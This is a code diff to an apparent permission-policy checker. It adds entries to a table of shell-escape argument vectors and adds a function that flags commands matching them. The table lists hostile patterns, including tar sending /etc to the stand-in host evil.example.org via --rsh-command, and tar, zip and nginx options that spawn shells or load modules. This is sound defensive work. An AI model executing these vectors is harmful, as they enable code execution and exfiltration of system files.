@@ -8,12 +8,15 @@ finding has no rule of the kinds that are known here.
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+import re
+from collections.abc import Iterator, Sequence
 from dataclasses import dataclass, replace
 from typing import Final, Literal
 
 from common.policy.check import Policy, check
+from common.policy.real_names import plain_names
 from common.policy.rules import Rule, VerdictKind
+from common.policy.runs_anything import NAMES
 from common.roles import ROLES
 
 Harm = Literal["runs", "writes", "reads", "connects"]
@@ -46,6 +49,7 @@ _LINES: Final[dict[str, tuple[tuple[Harm, tuple[str, ...]], ...]]] = {
         ("runs", ("-I", _SHELL, "-cf", "/dev/null", "x")),
         ("writes", ("xf", "x.tar", "-C", "/etc")),
         ("writes", ("-xf", "x.tar")),
+        ("writes", ("xf", "x.tar")),
         ("connects", ("cf", "evil.example.org:x", "/etc", f"--rsh-command={_SHELL}")),
     ),
     "git": (
@@ -132,7 +136,7 @@ _LINES: Final[dict[str, tuple[tuple[Harm, tuple[str, ...]], ...]]] = {
     "crontab": (("runs", ("/srv/x",)),),
     "logrotate": (("runs", ("-f", "/srv/x.conf")),),
     "nginx": (("runs", ("-c", "/srv/x.conf")), ("runs", ("-g", "load_module /srv/x.so;"))),
-    "make": (("runs", ("-f", "/srv/x")),),
+    "make": (("runs", ("-f", "/srv/x")), ("runs", ("install",))),
     "pip": (("runs", ("install", "/srv/x")),),
     "npm": (("runs", ("install",)), ("runs", ("exec", "x"))),
     "zip": (("runs", ("x.zip", "x", "-T", "-TT", _SHELL)),),
@@ -142,6 +146,13 @@ _LINES: Final[dict[str, tuple[tuple[Harm, tuple[str, ...]], ...]]] = {
     "watch": (("runs", (_SHELL,)),),
     "busybox": (("runs", ("sh",)),),
 }  # fmt: skip
+
+
+_SUB_COMMANDS: Final = frozenset(
+    ("apt", "apt-get", "docker", "git", "ip", "kubectl", "npm", "openssl", "pip", "systemctl")
+)
+"""Programs whose first plain word says what they do: of the others a line without an option tells of the program."""
+_SUB_COMMAND: Final = re.compile(r"[a-z][a-z-]*", re.ASCII)
 
 
 @dataclass(frozen=True, slots=True)
@@ -171,6 +182,39 @@ def find_escapes(policy: Policy, runs_anything: Policy | None = None) -> tuple[E
         for escape in _of_rule(policy, rule, runs_anything):
             found.setdefault((escape.rule, escape.harm), escape)
     return tuple(found.values())
+
+
+def knows_harm(argv: Sequence[str]) -> bool:
+    """Whether the table knows something of what this vector says: its program as one that does harm by itself, its
+    sub-command, or one of its options, also in a cluster or abbreviated. Wider than the table's own lines, since those
+    are examples: for what is to be proposed to people, not for what they wrote themselves.
+    """
+    words = argv[1:]
+    for name in plain_names(argv[0]):
+        if name in NAMES or any(_speaks_of(words, name, harm, line) for harm, line in _LINES.get(name, ())):
+            return True
+    return False
+
+
+def _speaks_of(words: Sequence[str], name: str, harm: Harm, line: tuple[str, ...]) -> bool:
+    if name in _SUB_COMMANDS and _SUB_COMMAND.fullmatch(line[0]) and line[0] in words:
+        return True
+    options = [word for word in line if word.startswith("-") and word != "-"]
+    if not options:
+        return harm != "reads" and not (name in _SUB_COMMANDS and _SUB_COMMAND.fullmatch(line[0]) is not None)
+    return any(_may_be(word, option) for word in words for option in options)
+
+
+def _may_be(word: str, option: str) -> bool:
+    """Whether a word can be read as the option: abbreviated, with a value, or as one letter of several."""
+    given, known = word.partition("=")[0], option.partition("=")[0]
+    if known.startswith("--"):
+        return given.startswith("--") and len(given) > 2 and known.startswith(given)
+    if not given.startswith("-") or given.startswith("--") or given == "-":
+        return False
+    if len(known) > len("-x") and "/" not in known:
+        return given == known  # as of find
+    return known[1] in given[1:]
 
 
 def _of_rule(policy: Policy, rule: Rule, runs_anything: Policy | None) -> Iterator[Escape]:
